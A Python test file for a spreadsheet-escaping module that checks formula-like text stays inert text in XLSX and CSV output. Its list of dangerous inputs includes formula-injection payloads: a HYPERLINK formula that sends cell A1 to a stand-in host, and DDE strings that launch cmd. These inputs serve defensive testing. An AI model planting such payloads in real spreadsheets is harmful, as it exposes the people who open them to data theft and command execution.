"""gongkai.spreadsheets: formula-like text stays text in every XLSX and CSV cell."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gongkai.spreadsheets import (
    csv_cell,
    csv_row,
    csv_text,
    is_formula_like,
    xlsx_append,
    xlsx_put,
)

DANGEROUS = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝１＋１",
    "＋1",
    "－2+3",
    "＠SUM(A1)",
    "-",
]
SAFE = ["张三", "甘河滩镇人民政府", "1+1", "", "'", "—", "#N/A", "-5", "+3.5", "-0.25", "12"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", SAFE)
def test_not_formula_like(text):
    assert not is_formula_like(text)


def _reopen(wb: Workbook):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


def test_xlsx_text_stays_text_numbers_stay_numbers():
    wb = Workbook()
    ws = wb.active
    values = [*DANGEROUS, *SAFE]
    for i, text in enumerate(values, start=1):
        xlsx_put(ws.cell(row=i, column=1), text)
    xlsx_append(ws, [-5, Decimal("-1.5"), 3.25, None, "=2+2", True])
    ws = _reopen(wb).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    for i, text in enumerate(values, start=1):
        cell = ws.cell(row=i, column=1)
        assert cell.value == (text or None), text
        assert cell.data_type == "s" or cell.value is None
        assert cell.quotePrefix is is_formula_like(text)
    last = len(values) + 1
    row = [ws.cell(row=last, column=c).value for c in range(1, 7)]
    assert row == [-5, -1.5, 3.25, None, "=2+2", True]
    assert ws.cell(row=last, column=1).data_type == "n"  # a negative number is a number


def test_xlsx_append_starts_on_the_first_row_and_keeps_empty_rows():
    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, ["=1"])
    ws.append([])
    xlsx_append(ws, ["@x", 2])
    assert ws["A1"].value == "=1" and ws["A1"].data_type == "s"
    assert ws["A3"].value == "@x" and ws["A3"].quotePrefix and ws["B3"].value == 2


def test_csv_escapes_formulas_and_keeps_numbers():
    row = csv_row([*DANGEROUS, *SAFE, -5, Decimal("-1.50"), None])
    buf = io.StringIO()
    csv.writer(buf).writerow(row)
    (back,) = list(csv.reader(io.StringIO(buf.getvalue())))
    for field, text in zip(back, DANGEROUS, strict=False):
        assert field == "'" + text
    assert back[len(DANGEROUS) :] == [*SAFE, "-5", "-1.50", ""]
    assert [csv_text(x) for x in back[: len(DANGEROUS) + len(SAFE)]] == DANGEROUS + SAFE


@given(st.text(max_size=12))
def test_csv_escaping_is_reversible(text):
    field = csv_cell(text)
    assert csv_text(field) == text
    assert not is_formula_like(field) or field == text and not is_formula_like(text)


def test_apostrophes_before_formulas_round_trip():
    for text in ("'=1", "''=1", "'-2+3", "'", "'abc"):
        assert csv_text(csv_cell(text)) == text
    assert csv_cell("'=1") == "''=1"
